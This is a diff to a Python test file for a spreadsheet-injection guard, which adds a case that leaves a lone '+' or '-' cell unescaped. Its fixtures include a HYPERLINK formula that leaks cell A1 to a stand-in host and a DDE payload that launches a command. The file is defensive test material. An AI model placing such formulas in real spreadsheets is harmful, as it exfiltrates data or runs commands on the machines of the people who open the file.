@@ -21,7 +21,7 @@ from clinbench.results import read_results, write_results
 
 runner = CliRunner()
 _mount()
-NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-]")  # or a lone sign
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'
 INJECTIONS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "=cmd|' /C calc'!A0"]
 
@@ -39,6 +39,14 @@ def test_a_neutralised_cell_reads_back_as_the_original(text):
     safe = spreadsheet_text(text)
     assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
     assert original_text(safe) == text
+
+
+def test_a_lone_sign_for_no_value_is_written_as_it_is():
+    # a table's "-" (no value) or a lone "+" holds no expression for a spreadsheet to run;
+    # anything after the sign, or another formula start, keeps the guard
+    assert spreadsheet_text("-") == "-" and spreadsheet_text("+") == "+"
+    assert spreadsheet_text("-x") == "'-x" and spreadsheet_text("--") == "'--"
+    assert spreadsheet_text("=") == "'=" and spreadsheet_text("@") == "'@"
 
 
 def test_numbers_written_as_text_stay_numbers():
